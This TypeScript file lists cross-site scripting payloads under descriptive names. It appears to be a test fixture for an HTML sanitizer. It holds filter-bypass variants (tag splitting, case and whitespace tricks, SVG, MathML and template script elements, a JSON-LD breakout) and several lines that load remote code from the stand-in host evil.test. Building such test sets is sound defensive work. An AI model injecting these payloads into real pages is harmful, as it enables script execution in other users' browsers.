import type { PayloadClass } from './payload.ts';

export const scripts: PayloadClass = {
  plain: '<script>ran(0)</script>',
  'from elsewhere': '<script src="http://evil.test/script.js"></script>',
  'from elsewhere, no protocol': '<script src=//evil.test/script.js></script>',
  'a module': '<script type="module">import "http://evil.test/module.js"; ran(0)</script>',
  'a module’s map': '<script type="importmap">{"imports":{"x":"http://evil.test/map.js"}}</script>',
  'speculation rules':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://evil.test/rules"]}]}</script>',
  'data that end the script':
    '<script type="application/ld+json">{"headline":"</script><img src=x onerror=ran(this)>"}</script>',
  'capital letters': '<SCRIPT>ran(0)</SCRIPT>',
  'a slash after the name': '<script/x>ran(0)</script>',
  'a sign after the name': '<script\u000c>ran(0)</script\t\n x>',
  'a script in a script': '<scr<script>ipt>ran(0)</scr</script>ipt>',
  'a script in a tag': '<b <script>ran(0)//</script>0</script></b>',
  'no end': '<script>ran(0)//',
  'a comment inside': '<script><!--<script>--></script><img src=x onerror=ran(this)></script>',
  'as another document’s': '<script xmlns="http://www.w3.org/1999/xhtml">ran(0)</script>',
  'for an event': '<script for=window event=onload>ran(0)</script>',
  'a drawing’s': '<svg><script>ran(0)</script></svg>',
  'a drawing’s, by address':
    '<svg><script href="http://evil.test/svg.js"/><script xlink:href="data:,ran(0)"></script></svg>',
  'a drawing’s, as entities': '<svg><script>&#114;an(0)</script></svg>',
  'a formula’s': '<math><script>ran(0)</script></math>',
  'a template’s': '<template><script>ran(0)</script><img src=x onerror=ran(this)></template>',
  'inside what shows without scripts': '<noscript><script>ran(0)</script></noscript>',
  'an event source’s': '<event-source src="http://evil.test/events" onload="ran(this)">',
  'a handler of XML events':
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">ran(0)</handler>',
  'an instruction':
    '<?xml-stylesheet type="text/xsl" href="data:,x"?><?php echo "<script>ran(0)</script>" ?>',
  'a preloaded one':
    '<link rel="modulepreload" href="http://evil.test/preload.js"><link rel=preload as=script href=http://evil.test/p.js>',
};
